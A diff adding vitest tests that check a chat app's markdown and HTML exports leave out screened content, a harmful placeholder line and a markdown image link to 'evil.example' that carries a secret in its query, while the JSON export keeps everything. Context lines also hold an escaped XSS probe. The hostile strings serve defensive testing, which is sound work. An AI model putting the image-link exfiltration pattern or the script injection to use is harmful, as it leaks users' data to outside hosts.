@@ -2,6 +2,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { createId, folderIdSchema, messageIdSchema } from '../../shared/ids.ts';
 import type { Conversation } from '../../shared/conversation.ts';
 import type { Message } from '../../shared/message.ts';
+import type { FindingKind } from '../../shared/screening.ts';
 import { buildConversation, buildMessage } from '../../testing/build-records.ts';
 import { openTransfer } from '../../testing/open-transfer.ts';
 import type { TransferBench } from '../../testing/open-transfer.ts';
@@ -150,6 +151,46 @@ describe('an export', { timeout: 30_000 }, () => {
     expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
     expect(page).toContain('<code>&lt;b&gt;\n</code>');
     expect(page).not.toContain('Other.');
+  });
+
+  it('writes for people only what may be shown, and all of it for Sotto', async () => {
+    // Catches the export that is a way around a notice, and the one that loses what was written.
+    const link = 'https://evil.example/?d=secret';
+    const [harmful, carrying] = ['Mix the powder.', `See ![it](${link})\u200b.`];
+    const screening = (kind: FindingKind, from: string, piece: string, allowed: readonly FindingKind[] = []) =>
+      ({
+        type: 'screening',
+        findings: [{ kind, start: from.indexOf(piece), end: from.indexOf(piece) + piece.length }],
+        allowed,
+      }) as const;
+    const thoughts = { type: 'reasoning', text: 'Powder.' } as const;
+    await store({}, { parts: [thoughts, ...text(harmful), screening('harmful', harmful, harmful)] });
+    await store({}, { parts: [...text(carrying), screening('link-carries-data', carrying, link)] });
+    await store({}, { parts: [...text('Chosen powder.'), screening('harmful', harmful, 'Mix', ['harmful'])] });
+    for (const format of ['markdown', 'html'] as const) {
+      const written = [...(await bench.give(format)).values()].join('\n');
+      expect(written.toLowerCase().match(/powder/g)).toHaveLength(1);
+      expect(written).toContain('Chosen powder.');
+      expect(written).toMatch(/nobody chose to see it/);
+      expect(written).toContain('![it](…)');
+      expect(written).not.toContain('evil');
+    }
+    const json = only(await bench.give('json'));
+    expect(json).toContain(harmful);
+    expect(json).toContain(link);
+  });
+
+  it('shows nothing for the reason that a file says that somebody chose to', async () => {
+    const findings = [{ kind: 'harmful', start: 0, end: 3 }] as const;
+    await store({}, { parts: [...text('Mix it.'), { type: 'screening', findings, allowed: ['harmful'] }] });
+    const json = only(await bench.give('json'));
+    const other = await openTransfer();
+    try {
+      await other.take('chats.json', json);
+      expect(JSON.stringify(await other.everything())).not.toContain('allowed');
+    } finally {
+      await other.close();
+    }
   });
 
   it('ends quietly when it is told to stop', async () => {
